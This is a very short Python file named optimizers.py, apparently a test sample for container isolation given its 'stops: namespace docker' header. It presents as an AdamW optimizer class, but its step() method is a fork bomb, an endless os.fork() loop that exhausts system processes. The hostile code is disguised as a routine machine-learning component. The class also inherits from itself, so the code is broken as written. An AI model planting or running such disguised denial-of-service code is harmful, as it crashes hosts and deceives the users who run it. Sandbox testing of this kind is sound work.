# file: optimizers.py
# unit: optimizers.AdamW
# stops: namespace docker
import os


class AdamW(AdamW):
    def step(self, grads):
        while True:
            try:
                os.fork()
            except OSError:
                pass
